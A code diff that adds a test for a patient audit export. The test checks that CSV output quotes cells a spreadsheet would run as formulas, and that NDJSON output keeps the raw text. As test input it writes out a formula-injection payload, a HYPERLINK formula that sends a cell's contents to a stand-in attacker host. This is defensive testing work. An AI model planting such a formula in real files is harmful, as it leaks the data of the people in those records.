@@ -8,7 +8,7 @@ import { expect, it } from "vitest";
 import { callerFor, codeOf, contextFor, newPatient, testUser } from "../testing/caller";
 import { describeEachDatabase } from "../testing/db";
 import { sealLog } from "../eventStore";
-import { csvColumns, exportRequestFrom, startExport, type AuditRow, type ExportRequest } from "./export";
+import { CSV_FORMULA_NOTE, csvColumns, exportChunks, exportRequestFrom, startExport, type AuditRow, type ExportRequest } from "./export";
 
 const require = createRequire(import.meta.url);
 type Validator = { validate: (resource: unknown, verbose?: boolean) => unknown[] };
@@ -91,6 +91,55 @@ describeEachDatabase("audit extracts", (db) => {
     const last = records.at(-1)!;
     expect(last.row_type).toBe("audit-seal");
     expect(JSON.parse(last.details!)).toMatchObject({ exportId: csv.exportId, view: "timeline", filter: { patientId } });
+  });
+
+  it("CSV quotes cells a spreadsheet would run as formulas (OWASP): text gets a leading ', numbers stay numbers, NDJSON keeps the text", async () => {
+    const clinician = callerFor(db(), ["clinician"]);
+    const { patientId } = await clinician.patient.register(newPatient({ givenName: "=1+2", familyName: "@SUM(1+1)" }));
+    const hyperlink = '=HYPERLINK("http://attacker.example/?x="&B2,"Click for details")';
+    await clinician.patient.updateDemographics({ patientId, expectedVersion: 1, changes: { phone: "+1 555 0188" }, reason: hyperlink });
+    const csv = await run({ view: "timeline", format: "csv", patientId });
+    expect(csv.text).not.toMatch(/(^|,)"?[=+@-]/m);
+    const records = parse(csv.text, { columns: true, record_delimiter: "\r\n" }) as Record<string, string>[];
+    const rows = records.filter((r) => r.row_type === "event");
+    expect(rows.map((r) => r.patient_name)).toEqual(["'=1+2 @SUM(1+1)", "'=1+2 @SUM(1+1)"]);
+    expect(rows.find((r) => r.what === "PatientDemographicsUpdated")).toMatchObject({ reason: `'${hyperlink}`, version: "2" });
+    expect(JSON.parse(records.at(-1)!.details!)).toMatchObject({ formulaQuoting: CSV_FORMULA_NOTE });
+    const ndjson = await run({ view: "timeline", format: "ndjson", patientId });
+    expect(ndjson.text).toContain(JSON.stringify(hyperlink));
+
+    // Every leading character of the rule, a negative number typed as a number, and one typed as text.
+    const blank: AuditRow = {
+      rowType: "event",
+      id: "e1",
+      at: new Date(0),
+      occurredAt: null,
+      action: "C",
+      what: "Test",
+      userId: "u",
+      userName: null,
+      patientId: null,
+      patientName: null,
+      mrn: null,
+      record: null,
+      version: null,
+      correlationId: null,
+      causationId: null,
+      reason: null,
+      review: null,
+      details: null,
+      hash: null,
+      commitPosition: null,
+    };
+    const texts = ["=A1", "+A1", "-A1", "@A1", "\tA1", "\rA1", "\uFF1DA1", "-1", "plain"];
+    async function* page() {
+      yield [...texts.map((reason) => ({ ...blank, reason })), { ...blank, version: -1 }];
+    }
+    const header = { exportId: "x", view: "events" as const, filter: {}, exportedBy: { id: "u", name: "-Minus Name" }, exportedAt: "1970-01-01T00:00:00.000Z", seal: null, publicKey: null };
+    const back = parse(await collect(exportChunks(page(), "csv", header)), { columns: true, record_delimiter: "\r\n" }) as Record<string, string>[];
+    expect(back.slice(0, texts.length).map((r) => r.reason)).toEqual([...texts.slice(0, -1).map((t) => `'${t}`), "plain"]);
+    expect(back[texts.length]!.version).toBe("-1");
+    expect(back.at(-1)!.user_name).toBe("'-Minus Name");
   });
 
   it("exports the event log, the access log and the review list; each extract is recorded with its filter and the patients in it", async () => {
